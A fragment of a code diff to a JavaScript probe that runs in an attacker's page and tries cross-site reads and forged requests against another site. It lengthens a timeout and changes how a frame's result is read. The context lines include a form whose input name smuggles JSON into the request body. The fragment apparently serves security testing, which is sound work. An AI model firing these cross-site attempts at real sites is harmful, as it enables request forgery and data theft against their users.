@@ -1,6 +1,6 @@
 /* What a page can try against another site: run in the attacker's page with the other site's base URL. Tells what it could read. */
 async (base) => {
-  const SECONDS = 3;
+  const SECONDS = 15;
   const read = [];
   const note = (how, what) => what !== null && what !== undefined && what !== "" && read.push(`${how}: ${String(what).slice(0, 200)}`);
   const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds, null));
@@ -102,7 +102,7 @@ async (base) => {
       form.append(Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
       document.body.append(form);
       form.submit();
-      attempt(`form ${enctype} ${name}`, new Promise((resolve) => (frame.onload = () => resolve(frame.contentDocument?.body?.innerText))));
+      attempt(`form ${enctype} ${name}`, pause(1500).then(() => frame.contentDocument?.body?.innerText));
     }
     attempt(`link to ${name}`, loaded("img", { src: `${base}${name}?${new URLSearchParams(said)}` }).then((image) => image && "loaded"));
   }
